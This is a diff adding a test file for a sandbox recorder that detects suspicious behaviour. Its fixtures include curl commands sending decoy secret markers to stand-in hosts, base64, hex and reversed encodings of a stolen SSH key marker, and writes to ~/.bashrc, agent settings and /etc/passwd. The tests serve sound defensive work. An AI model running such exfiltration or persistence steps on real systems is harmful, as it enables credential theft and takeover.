@@ -1,0 +1,144 @@
+import { describe, expect, it } from 'vitest';
+import { classify } from '../../src/sandbox/recorder/classify.ts';
+import { EventLog } from '../../src/sandbox/recorder/event-log.ts';
+import { readRecords } from '../../src/sandbox/recorder/records.ts';
+import { readShellCommand, wordsOf } from '../../src/sandbox/recorder/shell-trace.ts';
+import { mergeWitnesses } from '../../src/sandbox/recorder/witnesses.ts';
+
+const NONCE = 'sbx-0123:';
+const record = (value: object): string => `${NONCE}${JSON.stringify(value)}\n`;
+
+describe('readRecords', () => {
+  it('takes only lines with the nonce, and keeps the rest as output', () => {
+    const forged = `{"t":"failure","phase":"import","type":"X","message":"m"}\nsbx-9999:{"t":"end"}\n`;
+    const report = readRecords(
+      `hello\n${forged}${record({ t: 'phase', name: 'import', ms: 12 })}half${record({ t: 'end' })}`,
+      NONCE,
+    );
+    expect(report.phases).toEqual([{ name: 'import', ms: 12 }]);
+    expect(report.failures).toEqual([]);
+    expect(report.isComplete).toBe(true);
+    expect(report.output).toBe(`hello\n${forged}half\n`);
+  });
+
+  it('is not complete without the last record, and survives broken ones', () => {
+    const report = readRecords(
+      `${NONCE}{"t":"ev\n${NONCE}[1]\n${NONCE}null\n${record({ t: 'event', kind: 'nonsense' })}`,
+      NONCE,
+    );
+    expect(report).toMatchObject({ events: [], isComplete: false, lost: 0 });
+  });
+
+  it('adds up counts and remembers the step at which an event began', () => {
+    const event = {
+      t: 'event',
+      kind: 'connect',
+      phase: 'step',
+      detail: 'a.example:1',
+      first: 5,
+      last: 5,
+      count: 1,
+    };
+    const report = readRecords(
+      record({ ...event, step: 500 }) + record({ ...event, last: 9, count: 3 }),
+      NONCE,
+    );
+    expect(report.events).toMatchObject([{ count: 4, first: 5, last: 9 }]);
+    expect(report.late).toEqual([{ kind: 'connect', detail: 'a.example:1', step: 500 }]);
+  });
+
+  it('joins a traced shell command that goes over several lines', () => {
+    const trace = `+${NONCE}+ curl -d 'one\ntwo' https://x.example/a\n+${NONCE}+ echo hi\n`;
+    const { events, output } = readRecords(trace, NONCE, readShellCommand);
+    expect(events.map(({ kind, detail }) => `${kind} ${detail}`)).toEqual([
+      'connect https://x.example/a',
+      'exec curl -d one\ntwo https://x.example/a',
+    ]);
+    expect(output.trim()).toBe('');
+  });
+});
+
+describe('wordsOf', () => {
+  it('undoes the quoting of bash', () => {
+    expect(wordsOf(`a 'b c' $'d' e\\ f ''`)).toEqual(['a', 'b c', 'd', 'e f', '']);
+  });
+});
+
+describe('classify', () => {
+  const decoys = [
+    { name: '~/.ssh/id_rsa', kind: 'file', marker: 'aaaabbbbccccddddeeeeffff' },
+    { name: 'GITHUB_TOKEN', kind: 'token', marker: '111122223333444455556666' },
+  ] as const;
+  const surroundings = { decoys, persistencePaths: ['~/.bashrc'], agentPaths: ['~/.claude/**'] };
+  const classified = (kind: 'connect' | 'exec' | 'file.open' | 'file.write', detail: string) => {
+    const log = new EventLog();
+    log.add({ kind, detail, phase: 'run', first: 0 });
+    return classify(log.events(), surroundings).events;
+  };
+
+  it('knows a decoy file by its place in the home folder', () => {
+    expect(classified('file.open', '/home/user/.ssh/id_rsa')).toMatchObject([
+      { kind: 'decoy', detail: '~/.ssh/id_rsa', capability: 'secret.read', decoy: '~/.ssh/id_rsa' },
+    ]);
+    expect(classified('file.open', '/target/.ssh/id_rsa')).toMatchObject([
+      { kind: 'file.open', decoy: null },
+    ]);
+  });
+
+  it.each([
+    ['plain', (text: string) => text],
+    ['base64', (text: string) => Buffer.from(`xy${text}z`).toString('base64')],
+    ['base64', (text: string) => Buffer.from(`x${text}`).toString('base64')],
+    ['hex', (text: string) => Buffer.from(text).toString('hex')],
+    ['reversed', (text: string) => [...text].reverse().join('')],
+  ])('finds a marker on its way out, %s', (disguise, encode) => {
+    const events = classified('connect', `https://drop.example/p?k=${encode(decoys[0].marker)}`);
+    const stolen = events.find(({ kind }) => kind === 'decoy');
+    expect(stolen?.decoy).toBe('~/.ssh/id_rsa');
+    expect(stolen?.detail).toBe(disguise === 'plain' ? 'drop.example:443' : `drop.example:443 (${disguise})`);
+    expect(events.find(({ kind }) => kind === 'connect')).toMatchObject({
+      detail: 'drop.example:443',
+      allowed: false,
+    });
+  });
+
+  it('never repeats a marker in a report', () => {
+    const events = classified('exec', `/usr/bin/curl -d ${decoys[1].marker} http://x.example`);
+    expect(JSON.stringify(events)).not.toContain(decoys[1].marker);
+    expect(events.map(({ kind }) => kind).sort()).toEqual(['decoy', 'exec']);
+  });
+
+  it('tells persistence and agent settings from other writes, and what the sandbox refuses', () => {
+    expect(classified('file.write', '/home/user/.bashrc')).toMatchObject([
+      { capability: 'persist', allowed: true },
+    ]);
+    expect(classified('file.write', '/home/user/.claude/settings.json')).toMatchObject([
+      { capability: 'agent.control' },
+    ]);
+    expect(classified('file.write', '/etc/passwd')).toMatchObject([
+      { capability: 'fs.write', allowed: false },
+    ]);
+    expect(classified('file.write', '/tmp/tmpab12cd34/x')).toMatchObject([
+      { detail: '/tmp/tmp*/x', allowed: true },
+    ]);
+  });
+});
+
+describe('mergeWitnesses', () => {
+  it('counts what both saw once, and leaves out what interpreters do for themselves', () => {
+    const inside = new EventLog();
+    inside.add({ kind: 'file.open', detail: '/home/user/a', phase: 'import', first: 1 });
+    const outside = new EventLog();
+    outside.add({ kind: 'file.open', detail: '/home/user/a', phase: 'import', first: 2 });
+    outside.add({ kind: 'file.open', detail: '/usr/lib/python3/x.py', phase: 'import', first: 2 });
+    outside.add({ kind: 'exec', detail: 'id -u', phase: 'import', first: 3 });
+    outside.add({
+      kind: 'exec',
+      detail: 'python3 -I /opt/sbx/guest/probe_gym.py',
+      phase: 'import',
+      first: 0,
+    });
+    const { events } = mergeWitnesses(inside.events(), outside.events());
+    expect(events.map(({ detail, count }) => `${detail} ${count}`)).toEqual(['/home/user/a 1', 'id -u 1']);
+  });
+});
